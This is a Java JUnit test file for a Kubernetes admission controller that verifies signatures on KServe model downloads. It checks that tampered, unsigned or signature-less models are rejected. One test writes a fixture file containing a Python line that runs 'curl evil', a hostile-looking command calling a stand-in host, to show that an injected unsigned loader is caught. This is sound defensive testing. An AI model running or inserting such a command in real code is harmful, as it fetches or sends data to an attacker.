package dev.modelgate.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.MissingNode;
import dev.modelgate.admission.AdmissionOutcome;
import dev.modelgate.admission.AdmissionRequest;
import dev.modelgate.testing.AdmissionHarness;
import dev.modelgate.testing.InjectedVerifier;
import dev.modelgate.testing.KServePods;
import dev.modelgate.testing.SignedModel;
import dev.modelgate.testing.TestModels;
import io.fabric8.zjsonpatch.JsonPatch;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The verifier /mutate injects after KServe's storage-initializer, run as its own process with the
 * arguments and environment of the injected container, on an emptyDir filled as the initializer
 * fills it: every object under the {@code s3://bucket/prefix} written to the destination with the
 * prefix stripped (python/storage/kserve_storage/kserve_storage.py _download_s3, kserve/kserve at
 * aaac4e294dae2c7b1aa1886447793f3aa1c30912), so the published {@code model.sig} lands next to the
 * weights.
 */
class DownloadedModelVerifierProcessTest {
  static final String URI = "s3://models-bucket/llama-3-8b";
  @TempDir Path tmp;
  SignedModel published;
  Path emptyDir;
  JsonNode verifier;

  @BeforeEach
  void setUp() throws Exception {
    published = SignedModel.create(Files.createDirectories(tmp.resolve("bucket")));
    emptyDir = Files.createDirectories(tmp.resolve("kserve-provision-location"));
    storageInitializerDownload(published.model, emptyDir);
    AdmissionHarness harness =
        new AdmissionHarness(tmp)
            .policy(
                "p.yaml",
                AdmissionHarness.keyPolicy(
                    "downloads", "Enforce", "s3://**", published.publicKey, ""));
    JsonNode pod = KServePods.afterStorageInitializer(URI);
    var r =
        new AdmissionRequest(
            "admission.k8s.io/v1",
            "u",
            "Pod",
            "ml",
            "p",
            "CREATE",
            "",
            false,
            pod,
            MissingNode.getInstance());
    AdmissionOutcome mutate =
        harness.service().review(r, Instant.now().plus(Duration.ofSeconds(10)), true);
    JsonNode patched = JsonPatch.apply(new ObjectMapper().valueToTree(mutate.patch()), pod);
    verifier = patched.at("/spec/initContainers/1");
    assertThat(verifier.path("name").asText()).isEqualTo("modelgate-verify-kserve-storage");
  }

  /** Every object under the prefix, written below the destination with the prefix stripped. */
  private static void storageInitializerDownload(Path bucketPrefix, Path dest) throws IOException {
    try (Stream<Path> files = Files.walk(bucketPrefix)) {
      for (Path f : (Iterable<Path>) files.filter(Files::isRegularFile)::iterator) {
        Path target = dest.resolve(bucketPrefix.relativize(f).toString());
        Files.createDirectories(target.getParent());
        Files.copy(f, target);
      }
    }
  }

  /**
   * The injected container's args and environment; its mount (/modelgate/model) is the emptyDir
   * here.
   */
  private InjectedVerifier.Run runInjectedVerifier() throws Exception {
    return InjectedVerifier.run(verifier, emptyDir, tmp);
  }

  @Test
  void signedDownloadPassesUnderItsS3Uri() throws Exception {
    InjectedVerifier.Run r = runInjectedVerifier();

    assertThat(r.exit()).as(r.log()).isZero();
    assertThat(r.log())
        .contains("model 'kserve-storage' (" + URI + ") verified by ClusterModelPolicy/downloads");
  }

  @Test
  void tamperedDownloadFailsAndTheTerminationMessageNamesTheS3Uri() throws Exception {
    TestModels.write(emptyDir.resolve("model.safetensors"), "poisoned in transit");

    InjectedVerifier.Run r = runInjectedVerifier();

    assertThat(r.exit()).isEqualTo(1);
    assertThat(r.termination())
        .startsWith(
            "model 'kserve-storage' ("
                + URI
                + ") failed ClusterModelPolicy/downloads: DIGEST_MISMATCH: file 'model.safetensors'");
  }

  @Test
  void downloadWithoutItsModelSigFails() throws Exception {
    Files.delete(emptyDir.resolve("model.sig"));

    InjectedVerifier.Run r = runInjectedVerifier();

    assertThat(r.exit()).isEqualTo(1);
    assertThat(r.termination())
        .contains("(" + URI + ") failed ClusterModelPolicy/downloads: NOT_FOUND: signature file");
  }

  @Test
  void fileAddedToTheDownloadFails() throws Exception {
    TestModels.write(emptyDir.resolve("loader.py"), "import os; os.system('curl evil')");

    InjectedVerifier.Run r = runInjectedVerifier();

    assertThat(r.exit()).isEqualTo(1);
    assertThat(r.termination()).contains("UNSIGNED_FILE: file 'loader.py'");
  }
}
